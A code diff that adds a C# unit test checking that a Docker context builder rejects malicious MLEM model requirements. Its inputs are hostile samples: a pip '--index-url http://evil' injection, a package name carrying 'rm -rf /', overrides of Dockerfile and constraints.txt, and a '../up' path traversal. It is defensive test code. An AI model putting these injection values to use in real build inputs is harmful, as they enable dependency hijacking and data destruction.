@@ -135,6 +135,22 @@ public sealed class DockerContextTests : IDisposable
         Assert.Contains("RUN pip install -c constraints.txt --no-cache-dir -r requirements.txt\n", context.ReadText("Dockerfile"), StringComparison.Ordinal);
     }
 
+    [Theory]
+    [InlineData("- module: x\n  version: \"1\\n--index-url http://evil\"", "RequirementInvalid")]
+    [InlineData("- package_name: curl; rm -rf /\n  type: unix", "RequirementInvalid")]
+    [InlineData("- module: x\n  vcs_commit: abc\n  vcs: git", "RequirementInvalid")]
+    [InlineData("- name: Dockerfile\n  source64zip: eJxLSU0t4AIABaYBqQ==\n  type: file", "ContextPathConflict")]
+    [InlineData("- name: constraints.txt\n  source64zip: eJxLSU0t4AIABaYBqQ==\n  type: file", "ContextPathConflict")]
+    [InlineData("- name: ../up\n  source64zip: eJxLSU0t4AIABaYBqQ==\n  type: file", "PathOutsideContext")]
+    public async Task A_requirement_that_would_be_more_than_it_says_is_refused(string requirement, string errorId)
+    {
+        string file = Path.Combine(_work, "model.mlem");
+        await File.WriteAllTextAsync(file, $"object_type: model\nrequirements:\n{requirement}\n", TestContext.Current.CancellationToken);
+        MlemException error = await Assert.ThrowsAsync<MlemException>(() => DockerContext.CreateAsync(
+            new DockerContextRequest(MlemModel.Load(file)), TestContext.Current.CancellationToken));
+        Assert.Equal(errorId, error.ErrorId);
+    }
+
     private static async Task<string> DigestAsync(string model)
     {
         DockerContext context = await DockerContext.CreateAsync(
